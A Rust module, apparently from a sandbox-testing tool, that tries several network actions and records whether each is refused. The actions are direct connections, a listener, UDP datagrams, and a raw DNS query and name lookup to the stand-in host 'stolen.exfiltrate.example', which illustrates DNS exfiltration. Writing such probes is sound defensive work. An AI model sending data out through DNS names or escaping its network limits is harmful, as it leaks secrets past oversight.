//! Sockets of its own: to the very place it is permitted to have sessions with, and to who would notice.

use std::net::{Ipv4Addr, TcpListener, TcpStream, ToSocketAddrs as _, UdpSocket};

use hawser_sdk::{Error, Finding};

use crate::Options;
use crate::told::tried;

/// A question for `stolen.exfiltrate.example` (RFC 1035, 4.1), with what it steals in the name.
const QUESTION: &[u8] =
    b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06stolen\x0aexfiltrate\x07example\x00\x00\x01\x00\x01";

#[allow(clippy::disallowed_methods, reason = "it is a burglar")]
pub(crate) fn sockets(options: &Options) -> Vec<Finding> {
    let to = (options.host.as_str(), options.port);
    let here = |port: u16| (Ipv4Addr::LOCALHOST, port);
    let datagram = |bytes: &[u8], port| UdpSocket::bind("0.0.0.0:0").and_then(|it| it.send_to(bytes, here(port)));
    let refused = |why: std::io::Error| Error::permission_denied(why.to_string());
    vec![
        tried("connect by itself", TcpStream::connect(to).map_err(refused)),
        tried("connect to the canary", TcpStream::connect(here(options.canary)).map_err(refused)),
        tried("listen", TcpListener::bind("127.0.0.1:0").map_err(refused)),
        tried("send datagrams", datagram(b"x", options.canary).map_err(refused)),
        tried("ask the name server itself", datagram(QUESTION, options.resolver).map_err(refused)),
        tried("look a name up", ("exfiltrate.example", 53).to_socket_addrs().map(|mut it| it.next()).map_err(refused)),
    ]
}
